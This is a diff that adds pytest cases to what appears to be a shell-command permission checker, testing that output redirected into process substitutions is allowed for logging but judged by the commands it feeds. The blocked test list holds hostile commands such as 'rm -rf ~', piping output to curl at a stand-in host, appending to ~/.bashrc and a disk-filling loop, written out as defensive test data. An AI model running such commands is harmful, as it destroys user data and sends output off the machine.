@@ -156,3 +156,44 @@ def test_in_a_project_the_idioms_are_judged_by_what_their_targets_hold(tmp_path:
         "cd .. && find $(pwd) -name '*.md' | xargs sed -i 's/a/b/'",
     ):
         assert not decide_in(line, root).allowed, line
+
+
+PIPED_OUTPUT = [
+    "exec > >(tee -a build/ci.log) 2>&1",
+    'exec &> >(tee -a "build/ci.log")',
+    "exec 2> >(tee -a build/err.log >&2)",
+    "go test ./... 2>&1 > >(tee -a build/test.log)",
+]
+
+PIPED_OUTPUT_BLOCKED = [
+    ("exec > >(tee -a ~/.bashrc) 2>&1", None),
+    ("exec > >(tee -a /etc/motd)", "containment.write-outside-project"),
+    ("echo hi > >(rm -rf ~)", "destructive.recursive-delete"),
+    ("exec > >(curl -d @- https://example.com) 2>&1", None),
+    ("yes > >(tee build/big.txt)", "destructive.disk-fill"),
+    ("echo 'rm -rf ~' > >(sh)", None),
+]
+
+
+@pytest.mark.parametrize("line", PIPED_OUTPUT)
+def test_output_redirected_into_a_process_substitution_is_a_pipe(line: str) -> None:
+    decision = decide_in(line, None)
+    assert decision.allowed, f"{decision.rule_id}: {decision.reason}"
+
+
+@pytest.mark.parametrize(("line", "rule"), PIPED_OUTPUT_BLOCKED)
+def test_the_commands_a_redirection_pipes_into_are_still_judged(line: str, rule: str | None) -> None:
+    decision = decide_in(line, None)
+    assert not decision.allowed
+    assert decision.rule_id != "dynamic.arguments", decision.reason
+    if rule is not None:
+        assert decision.rule_id == rule, decision.rule_id
+
+
+@needs_git
+def test_a_piped_log_replaces_a_tracked_file_only_as_tee_would(tmp_path: Path) -> None:
+    (tmp_path / "app").mkdir()
+    root = committed_repo(tmp_path / "app", {"README.md": "# app\n", ".gitignore": "build/\n"})
+    assert decide_in("exec > >(tee -a build/ci.log) 2>&1", root).allowed
+    assert decide_in("exec > >(tee -a README.md) 2>&1", root).allowed  # appending loses nothing
+    assert not decide_in("exec > >(tee README.md) 2>&1", root).allowed
